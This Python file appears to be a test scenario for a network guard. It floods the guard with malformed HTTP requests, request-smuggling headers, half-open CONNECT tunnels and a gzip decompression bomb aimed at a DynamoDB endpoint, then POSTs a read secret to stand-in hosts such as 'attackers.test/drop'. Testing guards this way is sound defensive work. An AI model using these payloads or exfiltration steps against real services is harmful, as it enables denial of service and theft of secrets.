"""F04: wear the guard out, then walk through: malformed bytes, heads and bodies without end, bombs, half-open
tunnels; and when it is busy or gone, the one request that matters.
"""

import gzip
import socket
import threading

LIMIT = 10
HEAD = b"POST / HTTP/1.1\r\nHost: open.test\r\n"
MALFORMED = (
    HEAD + b"Content-Length: 3\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    HEAD + b"Content-Length: 99999999999999999999\r\n\r\n",
    HEAD + b"Transfer-Encoding: chunked\r\n\r\nfffffffffffffffff\r\n",
    HEAD + b"X: " + b"a" * 200_000,
    HEAD + b"X: 1\r\n" * 100_000,
    b"\x16\x03\x01\x00\x01\x01" * 5_000,
    b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + b"\0\0\0\4\0\0\0\0\0" * 1000,
    b"\0" * 100_000,
    b"GET /\xff HTTP/1.1\nHost:\r\r\n",
)


def attack(hands):
    text = hands.plain()
    worn(hands)
    hands.http("POST", "https://attackers.test/drop", text.encode())


def twin(hands):
    text = hands.secret()
    busy(hands)
    hands.http("POST", "https://kept.test/drop", text.encode())


def busy(hands):
    """Honest work of the largest kind: many connections, many headers, a large body."""
    headers = {f"X-{n}": "1" for n in range(80)}
    threads = [
        threading.Thread(target=hands.http, args=("POST", "https://kept.test/", b"x" * (1 << 20), headers))
        for _ in range(20)
    ]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def worn(hands):
    """Do all of it, and keep the half-open ones open."""
    held = []
    for said in MALFORMED:
        held.append(threading.Thread(target=thrown, args=(said,)))
    for _ in range(60):
        try:
            tunnel = socket.create_connection(("open.test", 80), timeout=LIMIT)
            tunnel.sendall(b"CONNECT open.test:443 HTTP/1.1\r\nHost: open.test:443\r\n\r\n\x16\x03\x01")
            hands.__dict__.setdefault("half_open", []).append(tunnel)
        except OSError:
            break
    for thread in held:
        thread.start()
    bomb = gzip.compress(b'{"TableName":"shelf","Key":' + b"[" * (32 << 20))
    told = {"content-encoding": "gzip", "content-type": "application/x-amz-json-1.0"}
    target = {"x-amz-target": "DynamoDB_20120810.GetItem"}
    hands.http("POST", f"https://dynamodb.{hands.region}.amazonaws.com/", bomb, {**told, **target})
    for thread in held:
        thread.join(LIMIT)


def thrown(said):
    """Say it, and take what comes for a moment."""
    try:
        with socket.create_connection(("open.test", 80), timeout=2) as stream:
            stream.sendall(said)
            stream.recv(1000)
    except OSError:
        pass
